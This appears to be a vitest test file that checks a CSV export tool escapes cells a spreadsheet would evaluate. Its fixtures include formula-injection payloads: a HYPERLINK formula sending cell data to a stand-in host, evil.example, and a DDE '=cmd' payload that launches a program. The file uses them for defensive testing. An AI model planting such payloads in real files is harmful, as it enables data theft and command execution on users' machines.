// Issue 10, point 5 (the writers under src/sources): `export --format csv` and `--format statements`
// wrote cells starting with =, +, -, @ as they were, so a spreadsheet evaluated them (formula injection).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, type Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FtmEntity } from '../../src/model/entity.ts';
import { collect } from '../../src/sources/collect.ts';
import { writeEntitiesCsv } from '../../src/sources/ftm/export.ts';
import { statementsCsv, writeStatementsCsv, type CsvStatementDraft } from '../../src/sources/statements/statements-csv.ts';
import { importFiles } from '../../src/ingest/import.ts';
import { freshStore } from '../support/engines.ts';
import { runCli } from '../support/cli.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1-555-0100', '-2+3', '@SUM(A1:A9)', '\t=1+1', "'=already quoted"];

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'interdict-csv-out-'));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function text(write: (out: Writable) => Promise<number>): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(out);
  out.end();
  return Buffer.concat(chunks).toString('utf8');
}

/** No cell a spreadsheet would evaluate. */
function expectInert(csv: string): void {
  for (const row of parse(csv, { relax_column_count: true }) as string[][]) {
    for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  }
}

describe('CSV writers escape cells a spreadsheet would evaluate', () => {
  it('entities CSV (export --format csv)', async () => {
    const entity: FtmEntity = { id: 'x-1', schema: 'Person', caption: HOSTILE[0], properties: { name: [HOSTILE[0]], alias: [HOSTILE[3]], phone: [HOSTILE[1]], notes: [HOSTILE[2]] } };
    const csv = await text((out) => writeEntitiesCsv([entity], out));
    expectInert(csv);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain("'+1-555-0100");
  });

  it('statements CSV (export --format statements), and it still reads back exactly', async () => {
    const drafts: CsvStatementDraft[] = HOSTILE.map((value, i) => ({ entityId: 'x-1', schema: 'Person', prop: i ? 'alias' : 'name', value, evidenceGrade: 'reported', sourceDocument: '@doc', dataset: 'analyst' }));
    const csv = await text((out) => writeStatementsCsv(drafts, out));
    expectInert(csv);
    const path = join(dir, 'statements.csv');
    writeFileSync(path, csv);
    const again = await collect(statementsCsv, [path]);
    const values = again.statements.filter((s) => s.prop !== 'id').map((s) => [s.value, s.sourceDocument]);
    expect(values).toEqual(HOSTILE.map((v) => [v, '@doc']));
  });

  it('the export command writes inert cells', async () => {
    const t = await freshStore('sqlite');
    const claims = join(dir, 'claims.csv');
    writeFileSync(claims, 'entity_id,prop,schema,value,evidence_grade,source_document\nx-1,name,Person,"=cmd|\' /C calc\'!A0",reported,https://example.org\n');
    await importFiles(t.store, [claims], { dataset: 'claims' });
    await t.store.close();
    for (const format of ['csv', 'statements']) {
      const out = join(dir, `export.${format}`);
      const r = await runCli(['export', 'claims', '--format', format, '--output', out], { INTERDICT_DB: t.sqlitePath });
      expect(r.code, r.stderr).toBe(0);
      const csv = readFileSync(out, 'utf8');
      expectInert(csv);
      expect(csv).toContain("'=cmd|");
    }
    await t.dispose(); // the store (closed above: closing again is harmless) and the directory freshStore made for it
  }, 60_000);
});
